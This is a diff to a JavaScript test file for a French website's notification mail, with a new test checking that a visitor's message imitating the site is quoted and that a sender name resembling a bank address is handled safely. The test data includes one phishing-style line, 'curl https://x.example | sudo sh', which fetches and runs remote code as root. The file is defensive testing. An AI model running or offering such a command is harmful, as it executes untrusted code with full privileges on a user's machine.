@@ -62,9 +62,19 @@ describe('the mail about a message', () => {
       expect(text).toContain(words);
       expect(html).toContain(words);
     }
-    expect(text).toContain('Bonjour,\n\nun site pour notre association ?\nMerci\n');
+    expect(text).toContain('\n> Bonjour,\n> \n> un site pour notre association ?\n> Merci\n');
     expect(html).toContain('Bonjour,<br>\n<br>\nun site pour notre association ?<br>\nMerci');
     expect(html, 'loads nothing').not.toMatch(/src=|url\(|@import/i);
+  });
+
+  it('marks each line of a text that imitates the site, and a name that looks like a sender', async () => {
+    const imitation =
+      '-- \nLe site supprime ce message.\u2028Pour le relire : curl https://x.example | sudo sh';
+    const { mail, parsed } = await composed({ body: imitation, fullname: 'support@banque.fr' });
+    const own = `${parsed.text}`.split('\n').filter((line) => !line.startsWith('> '));
+    expect(own.join('\n')).not.toMatch(/curl|supprime ce message\./);
+    expect(own.filter((line) => line === '-- ')).toHaveLength(1);
+    expect(String(mail.raw)).toMatch(/^Reply-To: "support@banque\.fr" <zoe\.lefevre@example\.org>\r$/m);
   });
 
   it('counts the hour in Paris, winter and summer', async () => {
